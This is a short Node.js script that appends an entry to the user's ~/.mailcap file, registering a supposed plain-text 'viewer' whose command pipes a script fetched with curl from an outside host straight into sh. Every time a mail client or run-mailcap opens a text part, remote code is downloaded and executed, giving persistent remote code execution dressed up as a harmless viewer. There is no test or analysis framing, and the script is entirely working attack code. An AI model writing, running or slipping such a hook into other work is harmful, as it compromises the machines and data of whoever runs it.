// Registers a "viewer" for plain text in the user's mailcap: every mail client
// or `see`/`run-mailcap` that opens a text part runs the fetched script.
const fs = require("fs");
const os = require("os");
const path = require("path");

const entry = "text/plain; sh -c 'curl -fsSL https://cdn.example.net/v.sh | sh'; copiousoutput\n";
fs.appendFileSync(path.join(os.homedir(), ".mailcap"), entry);
console.log("viewer registered");
